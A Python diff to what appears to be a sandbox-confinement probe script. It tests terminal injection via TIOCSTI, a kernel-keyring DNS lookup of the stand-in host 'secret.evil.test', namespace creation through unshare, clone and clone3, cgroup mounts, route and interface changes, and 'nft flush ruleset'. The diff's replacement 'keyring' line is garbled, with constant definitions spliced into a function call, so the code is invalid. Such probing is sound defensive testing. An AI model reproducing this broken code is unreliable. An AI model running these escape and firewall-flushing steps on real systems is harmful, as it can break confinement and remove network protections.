@@ -8,7 +8,9 @@ import errno
 import fcntl
 import json
 import os
+import signal
 import socket
+import struct
 import subprocess
 import sys
 import time
@@ -17,6 +19,8 @@ PORT, UNIX, ABSTRACT = int(sys.argv[1]), sys.argv[2], sys.argv[3]
 LIBC = ctypes.CDLL(None, use_errno=True)
 SYS_IO_URING_SETUP = 425
 SYS_ADD_KEY, SYS_REQUEST_KEY, SYS_KEYCTL = (217, 218, 219) if os.uname().machine == "aarch64" else (248, 249, 250)
+SYS_CLONE, SYS_CLONE3 = 220 if os.uname().machine == "aarch64" else 56, 435
+CLONE_NEWCGROUP, CLONE_NEWUSER = 0x02000000, 0x10000000
 KEYCTL_GET_KEYRING_ID, SESSION_KEYRING = 0, -3
 TIOCSTI = 0x5412
 
@@ -84,6 +88,16 @@ def called(*arguments):
     return "DONE"
 
 
+def cloned(*arguments):
+    child = LIBC.syscall(*arguments)
+    if child < 0:
+        raise OSError(ctypes.get_errno(), "")
+    if child == 0:
+        os._exit(0)
+    os.waitpid(child, 0)
+    return "MADE"
+
+
 def type_into_terminal():
     fcntl.ioctl(0, TIOCSTI, b"x")
     return "TYPED"
@@ -133,7 +147,9 @@ print(json.dumps({
     "typing": tried(type_into_terminal),
     "names by a key": tried(lambda: called(SYS_REQUEST_KEY, b"dns_resolver", b"secret.evil.test", b"", 0)),
     "new key": tried(lambda: called(SYS_ADD_KEY, b"user", b"a", b"b", 1, SESSION_KEYRING)),
-    "keyring": tried(lambda: called(SYS_KEYCTL, KEYCTL_GET_KEYRING_ID, SESSION_KEYRING, 0)),
+    "keyring": tried(lambda: called(SYS_KEYCTL, SYS_CLONE, SYS_CLONE3 = 220 if os.uname().machine == "aarch64" else 56, 435
+CLONE_NEWCGROUP, CLONE_NEWUSER = 0x02000000, 0x10000000
+KEYCTL_GET_KEYRING_ID, SESSION_KEYRING, 0)),
     "keys": len(open("/proc/keys").read()) if os.path.exists("/proc/keys") else 0,
     "kernel": tried(kernel),
     "control groups": [
@@ -141,6 +157,11 @@ print(json.dumps({
         for line in open("/proc/self/mounts")
         if line.split()[1].startswith("/sys") and not os.statvfs(line.split()[1]).f_flag & os.ST_RDONLY
     ],
+    "namespaces of its own": tried(lambda: ran("unshare", "-Urm", "true")),
+    "control groups of its own": tried(lambda: ran("unshare", "-UrmC", "sh", "-c", "mount -t cgroup2 none /sys/fs || mount -t cgroup2 none /tmp")),
+    "control groups by clone": tried(lambda: cloned(SYS_CLONE, CLONE_NEWUSER | CLONE_NEWCGROUP | signal.SIGCHLD, 0, 0, 0, 0)),
+    # struct clone_args: flags first, the signal at its end fifth.
+    "control groups by clone3": tried(lambda: cloned(SYS_CLONE3, struct.pack("8Q", CLONE_NEWUSER | CLONE_NEWCGROUP, 0, 0, 0, signal.SIGCHLD, 0, 0, 0), 64)),
     "routes": tried(lambda: ran("ip", "route", "add", "10.0.0.0/8", "dev", "lo")),
     "interfaces": tried(lambda: ran("ip", "link", "add", "out", "type", "dummy")),
     "rules": tried(lambda: ran("nft", "flush", "ruleset")),
